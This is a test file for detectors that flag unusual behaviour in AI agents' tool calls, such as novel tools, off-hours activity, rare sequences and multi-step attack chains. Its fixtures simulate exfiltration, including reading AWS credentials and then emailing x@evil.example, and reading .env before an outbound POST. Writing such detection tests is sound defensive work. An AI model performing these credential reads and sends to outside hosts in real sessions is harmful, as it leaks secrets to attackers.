// Per-principal behaviour profiles: first-seen tool, unusual hour, rare tool sequence; and the per-session attack chain.
import { test } from "node:test";
import assert from "node:assert/strict";
import { firstSeenTool } from "../../../../services/detector/detectors/behavioural/first-seen-tool.js";
import { unusualHour } from "../../../../services/detector/detectors/behavioural/unusual-hour.js";
import { rareSequence } from "../../../../services/detector/detectors/behavioural/rare-sequence.js";
import { attackChain } from "../../../../services/detector/detectors/behavioural/attack-chain.js";
import { run } from "../../../fixtures/behavioural/harness.js";
import { call, DAY, HOUR, T0 } from "../../../fixtures/behavioural/events.js";
import * as sc from "../../../fixtures/behavioural/scenarios.js";

const after = (days: number, hour: number) => T0 + days * DAY + hour * HOUR;

test("first-seen tool: alice's first call to a tool after her learning period alerts once", () => {
  const routine = sc.aliceRoutine(3);
  const novel = call({ t: after(3, 10), tool: "delete_repository", server: "github", args: { repo: "acme/core" }, session: "alice-x" });
  const again = call({ t: after(3, 11), tool: "delete_repository", server: "github", args: { repo: "acme/web" }, session: "alice-y" });
  const hits = run([firstSeenTool], [...routine, novel, again]);
  assert.equal(hits.length, 1);
  assert.deepEqual(hits[0]!.event_ids, [novel.event_id]);
  assert.equal(hits[0]!.dedup?.[0], "github/delete_repository");
});

test("first-seen tool: new tools during learning and known tools afterwards stay quiet", () => {
  const early = sc.aliceRoutine(1);
  const learningNovel = call({ t: after(0, 18), tool: "create_branch", server: "github", session: "a" });
  assert.deepEqual(run([firstSeenTool], [...early, learningNovel]), []);
  assert.deepEqual(run([firstSeenTool], sc.aliceRoutine(4)), []);
});

test("unusual hour: alice (09–17 UTC for 5 days) active at 03:00", () => {
  const night = call({ t: after(5, 3), tool: "read_file", args: { path: "/src/app.ts" }, session: "alice-night" });
  const hits = run([unusualHour], [...sc.aliceRoutine(5), night]);
  assert.equal(hits.length, 1);
  assert.deepEqual(hits[0]!.event_ids, [night.event_id]);
  assert.match(hits[0]!.description, /03:00/);
});

test("unusual hour: an always-on batch principal at 03:00, and alice at 10:00 and 17:30, stay quiet", () => {
  const bot = [];
  for (let h = 0; h < 5 * 24; h++) bot.push(call({ t: T0 + h * HOUR + 60_000, tool: "sync", server: "etl", principal: "etl-bot", session: `etl-${h}` }));
  bot.push(call({ t: after(5, 3), tool: "sync", server: "etl", principal: "etl-bot", session: "etl-night" }));
  assert.deepEqual(run([unusualHour], bot), []);
  const day = [call({ t: after(5, 10), tool: "read_file", session: "d1" }), call({ t: after(5, 17) + 30 * 60_000, tool: "read_file", session: "d2" })];
  assert.deepEqual(run([unusualHour], [...sc.aliceRoutine(5), ...day]), []);
});

test("rare sequence: alice jumps from read_file straight to send_email, a move she never makes", () => {
  const s = "alice-odd";
  const a = call({ t: after(3, 10), tool: "read_file", server: "filesystem", args: { path: "/home/alice/.aws/credentials" }, session: s });
  const b = call({ t: after(3, 10) + 20_000, tool: "send_email", server: "email", args: { to: "x@evil.example" }, session: s });
  const hits = run([rareSequence], [...sc.aliceRoutine(3), a, b]);
  assert.equal(hits.length, 1);
  assert.deepEqual(hits[0]!.event_ids, [a.event_id, b.event_id]);
  assert.equal(hits[0]!.dedup?.[0], "filesystem/read_file>email/send_email");
});

test("rare sequence: her usual order, and a new session starting, stay quiet", () => {
  assert.deepEqual(run([rareSequence], sc.aliceRoutine(5)), []);
});

test("attack chain: recon → .env read → outbound POST alerts with all three events", () => {
  const s = sc.attackChainAttack();
  const hits = run([attackChain], s.events);
  assert.equal(hits.length, 1);
  assert.deepEqual(hits[0]!.event_ids, s.expectIds);
  assert.equal(hits[0]!.evidence.length, 3);
  assert.match(hits[0]!.evidence[1]!.excerpt, /\.env/);
});

test("attack chain: a dev reading .env then running tests, and a README posted, stay quiet", () => {
  assert.deepEqual(run([attackChain], sc.attackChainBenign().events), []);
});

test("attack chain: reading e-mail after a credential read is not an exfil sink", () => {
  const s = "sess-mail";
  const ev = [
    call({ t: T0, tool: "read_file", args: { path: "/home/dev/.ssh/id_rsa.pub" }, session: s }),
    call({ t: T0 + 1000, tool: "read_email", server: "gmail", args: { folder: "inbox" }, session: s }),
  ];
  assert.deepEqual(run([attackChain], ev), []);
});
